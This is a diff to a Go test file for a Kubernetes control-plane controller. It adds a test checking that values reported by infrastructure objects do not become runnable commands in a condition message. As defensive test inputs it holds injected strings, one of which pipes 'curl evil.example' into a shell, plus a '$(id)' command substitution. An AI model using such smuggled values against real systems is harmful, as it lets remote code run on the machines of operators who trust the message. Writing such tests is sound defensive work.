@@ -398,3 +398,37 @@ func TestWatchFilter(t *testing.T) {
 	w.change(func(p *v1alpha1.HullmarkControlPlane) { p.Labels[clusterv1.WatchLabel] = "other" })
 	w.reason(v1alpha1.BegunCondition, v1alpha1.WaitingForClusterFileReason)
 }
+
+// What an infrastructure reports becomes no command of the person who runs what a condition says, and holds the root's key.
+func TestReportsAreNoCommands(t *testing.T) {
+	const hostile = "stub://x; curl evil.example | sh #"
+	for name, report := range map[string]func(*world){
+		"a provider ID":        func(w *world) { w.reportOf("StubMachine", hostile, "spec", "providerID") },
+		"an agent's address":   func(w *world) { w.reportOf("StubMachine", hostile, "status", "agentAddress") },
+		"a server":             func(w *world) { w.reportOf("StubCluster", hostile, "status", "apiServer") },
+		"a server with a path": func(w *world) { w.reportOf("StubCluster", "192.0.2.9:6443/$(id)", "status", "apiServer") },
+	} {
+		t.Run(name, func(t *testing.T) {
+			w := newWorld(t)
+			w.reason(v1alpha1.BegunCondition, v1alpha1.WaitingForClusterFileReason)
+			report(w)
+			w.reconcile()
+			c := conditions.Get(w.plane(), v1alpha1.BegunCondition)
+			if c.Reason == v1alpha1.WaitingForClusterFileReason || strings.Contains(c.Message, "--provider-id") || !strings.Contains(c.Message, "want ") {
+				t.Errorf("%s: %s", c.Reason, c.Message)
+			}
+		})
+	}
+}
+
+// reportOf has all of a kind of the infrastructure report something.
+func (w *world) reportOf(kind, text string, path ...string) {
+	w.Helper()
+	list := &unstructured.UnstructuredList{}
+	list.SetGroupVersionKind(stub(kind, "").GroupVersionKind())
+	w.must(w.List(w.Context(), list))
+	for i := range list.Items {
+		w.must(unstructured.SetNestedField(list.Items[i].Object, text, path...))
+		w.must(w.Update(w.Context(), &list.Items[i]))
+	}
+}
